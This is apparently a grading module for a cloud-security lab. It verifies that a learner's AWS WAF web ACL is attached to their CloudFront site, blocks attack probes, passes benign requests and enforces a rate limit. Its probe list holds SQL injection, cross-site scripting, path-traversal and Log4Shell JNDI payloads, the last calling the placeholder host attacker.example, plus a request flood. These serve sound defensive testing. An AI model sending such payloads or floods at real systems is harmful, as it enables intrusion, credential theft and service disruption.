"""Layer 05 · WAF: a web ACL is attached to the distribution, attack probes are blocked at the site while benign
requests pass, and the rate-based rule answers once its limit is passed. Probes are real requests to the site."""

from __future__ import annotations

import secrets

from labkit import NotYet, names, site_origin

from .base import Check, Context, Result, failed, passed
from .probes import flood, http_request

ATTACKS = {
    "SQL injection": ("/", {"params": {"id": "1' OR '1'='1"}}),
    "cross-site scripting": ("/", {"params": {"q": "<script>alert(document.cookie)</script>"}}),
    "path traversal": ("/", {"params": {"file": "../../../../etc/passwd"}}),
    "Log4J header": ("/", {"headers": {"X-Api-Version": "${jndi:ldap://attacker.example/a}"}}),
}
BENIGN = {"home page": ("/", {}), "a search": ("/", {"params": {"q": "opening hours on Sunday"}})}


def _cafile(ctx: Context) -> str | None:
    return str(ctx.cfg.state_dir / "ca" / "ca.pem") if ctx.cfg.local else None


def _get(ctx: Context, path: str, **kwargs):
    return http_request("GET", site_origin(ctx.cfg) + path, cafile=_cafile(ctx), **kwargs)


def probe_attached(ctx: Context) -> Result:
    items = ctx.client("cloudfront").list_distributions()["DistributionList"].get("Items", []) or []
    dist = next((d for d in items if d.get("Comment") == names(ctx.cfg).distribution_comment), None)
    waf = ctx.client("wafv2", region_name="us-east-1")
    acl = next((a for a in waf.list_web_acls(Scope="CLOUDFRONT")["WebACLs"] if a["Name"] == names(ctx.cfg).web_acl),
               None)
    if acl is None:
        return failed(f"no web ACL {names(ctx.cfg).web_acl} (Scope CLOUDFRONT, us-east-1)", "the web ACL",
                      "run notebook 05; CloudFront web ACLs use Scope=CLOUDFRONT in us-east-1")
    if dist is None or dist.get("WebACLId") != acl["ARN"]:
        return failed(f"distribution WebACLId = {dist.get('WebACLId') if dist else 'no distribution'}", acl["ARN"],
                      "web ACL attached to nothing: set the distribution's WebACLId to the web ACL's ARN")
    if dist["Status"] != "Deployed":
        raise NotYet("the distribution is deploying the web ACL")
    ctx.facts["acl"] = waf.get_web_acl(Name=acl["Name"], Scope="CLOUDFRONT", Id=acl["Id"])["WebACL"]
    return passed(f"{acl['Name']} on {dist['Id']}")


def probe_attacks(ctx: Context) -> Result:
    answers = {name: _get(ctx, path, **kw) for name, (path, kw) in ATTACKS.items()}
    passed_through = [name for name, answer in answers.items() if answer.status_code != 403]
    rewritten = [name for name in passed_through if answers[name].headers.get("X-Cache", "").startswith("Error")]
    if rewritten:
        return failed(f"blocked, but answered {answers[rewritten[0]].status_code}: {', '.join(rewritten)}",
                      "403 for every attack probe",
                      "a 403 custom error response rewrites WAF blocks: map only 404 to /index.html (CloudFront applies "
                      "the distribution's custom error responses to WAF's 403 too, unless the rule has a custom "
                      "response of its own)")
    if passed_through:
        return failed(f"not blocked: {', '.join(passed_through)}", "403 for every attack probe",
                      "add the managed groups AWSManagedRulesCommonRuleSet, AWSManagedRulesSQLiRuleSet and "
                      "AWSManagedRulesKnownBadInputsRuleSet with OverrideAction None (not Count)")
    return passed(f"blocked: {', '.join(ATTACKS)}")


def probe_benign(ctx: Context) -> Result:
    blocked = [name for name, (path, kw) in BENIGN.items() if _get(ctx, path, **kw).status_code != 200]
    if blocked:
        return failed(f"refused: {', '.join(blocked)}", "200", "a rule blocks ordinary visitors: check DefaultAction "
                      "(Allow) and your own rules")
    return passed("benign requests pass")


def probe_rate_limit(ctx: Context) -> Result:
    rules = [r for r in ctx.facts["acl"].get("Rules", []) if "RateBasedStatement" in r.get("Statement", {})]
    if not rules:
        return failed("no rate-based rule", "a RateBasedStatement rule", "add a rate-based rule (notebook 05)")
    limit = rules[0]["Statement"]["RateBasedStatement"]["Limit"]
    if limit > 500:
        return passed(f"rate rule with limit {limit} (too high to probe)")
    # The rule blocks the flooding address for its window. On the local cloud the flood comes from another loopback
    # address (127.0.0.x), so the learner's own browser (127.0.0.1) is not shut out; on AWS it is the caller's IP.
    source = f"127.0.0.{secrets.randbelow(200) + 20}" if ctx.cfg.local else None
    url = site_origin(ctx.cfg) + "/app.js"  # not /style.css: cdn.cache, running alongside, times its copy
    # AWS counts every ~10 s, so a flood must outlast its lag; the local cloud counts exactly (wafv2/ratelimit.py).
    # Locally the requests are pipelined over two connections (a class's grading floods once per learner); AWS gets
    # them one at a time per connection, as browsers send them.
    if ctx.cfg.local:
        statuses = flood(url, limit + 5, cafile=_cafile(ctx), source_address=source, connections=2, pipelined=True)
    else:
        statuses = flood(url, limit + 30, cafile=_cafile(ctx))
    limited = [s for s in statuses if s in (403, 429)]
    if not limited:
        if not ctx.cfg.local:
            raise NotYet("AWS counts rate-based rules every few seconds: run the check again")
        return failed(f"{len(statuses)} requests, none refused", f"refusals after {limit}",
                      "the rate-based rule does not block: its action should be Block")
    return passed(f"limit {limit}: refused {len(limited)} of {len(statuses)} ({sorted(set(limited))})")


CHECKS = [
    Check("waf.attached", "the web ACL is attached to the distribution", probe_attached, wait=60),
    Check("waf.attacks", "attack probes are blocked", probe_attacks, needs=("waf.attached",)),
    Check("waf.benign", "ordinary requests pass", probe_benign, needs=("waf.attached",)),
    Check("waf.rate_limit", "the rate-based rule answers after its limit", probe_rate_limit,
          needs=("waf.attached",)),
]
